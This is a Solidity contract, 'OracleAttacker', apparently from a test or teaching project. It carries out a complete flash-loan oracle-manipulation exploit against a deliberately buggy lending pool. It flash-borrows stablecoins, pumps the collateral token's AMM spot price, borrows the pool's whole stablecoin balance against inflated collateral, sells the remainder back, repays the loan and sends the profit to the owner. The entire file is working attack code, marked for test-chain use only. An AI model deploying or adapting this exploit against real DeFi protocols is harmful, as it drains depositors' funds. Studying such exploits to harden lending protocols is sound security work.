// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {LendingPool} from "./LendingPool.sol";
import {SimpleAMM} from "./SimpleAMM.sol";

/// @title OracleAttacker
/// @notice Exploits BUG(oracle) of LendingPool.collateralPrice in one
/// transaction: flash-borrows dUSD, buys dCOL on the AMM to pump its spot
/// price, locks just enough of the now "expensive" dCOL to borrow all the
/// pool's dUSD, sells the rest of the dCOL back, repays the flash loan and
/// sends the profit to the owner (the deploying EOA). Test-chain use only.
contract OracleAttacker is IERC3156FlashBorrower {
    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");

    address public immutable owner;

    IERC3156FlashLender private _lender;

    event Attacked(address indexed pool, uint256 flashAmount, uint256 borrowed, uint256 profit);

    error NotOwner();
    error UnexpectedCallback();

    constructor() {
        owner = msg.sender;
    }

    /// @notice Runs the exploit: flash-borrows `flashAmount` dUSD from `lender`.
    function attack(IERC3156FlashLender lender, LendingPool pool, SimpleAMM amm, uint256 flashAmount) external {
        if (msg.sender != owner) revert NotOwner();
        IERC20 stable = pool.stable();
        IERC20 col = pool.collateral();
        _lender = lender;
        lender.flashLoan(this, address(stable), flashAmount, abi.encode(pool, amm));
        _lender = IERC3156FlashLender(address(0));

        uint256 profit = stable.balanceOf(address(this));
        emit Attacked(address(pool), flashAmount, pool.debtOf(address(this)), profit);
        stable.transfer(owner, profit);
        uint256 leftover = col.balanceOf(address(this));
        if (leftover > 0) col.transfer(owner, leftover);
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        if (msg.sender != address(_lender) || initiator != address(this)) revert UnexpectedCallback();
        (LendingPool pool, SimpleAMM amm) = abi.decode(data, (LendingPool, SimpleAMM));
        _exploit(pool, amm, IERC20(token), amount);
        // 4. Let the lender pull back the loan and its fee.
        IERC20(token).approve(msg.sender, amount + fee);
        return CALLBACK_SUCCESS;
    }

    function _exploit(LendingPool pool, SimpleAMM amm, IERC20 stable, uint256 amount) private {
        IERC20 col = pool.collateral();

        // 1. Pump: buy dCOL with all the borrowed dUSD; the spot price soars.
        stable.approve(address(amm), amount);
        uint256 bought = amm.swap(address(stable), amount, 0, address(this));

        // 2. Lock just enough dCOL to borrow every dUSD the pool holds.
        uint256 loot = stable.balanceOf(address(pool));
        uint256 needed =
            Math.mulDiv(loot, 1e18 * 10_000, amm.spotPrice() * pool.LTV_BPS(), Math.Rounding.Ceil) + 1;
        col.approve(address(pool), needed);
        pool.depositCollateral(needed);
        pool.borrow(loot);

        // 3. Dump the rest of the dCOL back into the AMM.
        col.approve(address(amm), bought - needed);
        amm.swap(address(col), bought - needed, 0, address(this));
    }
}
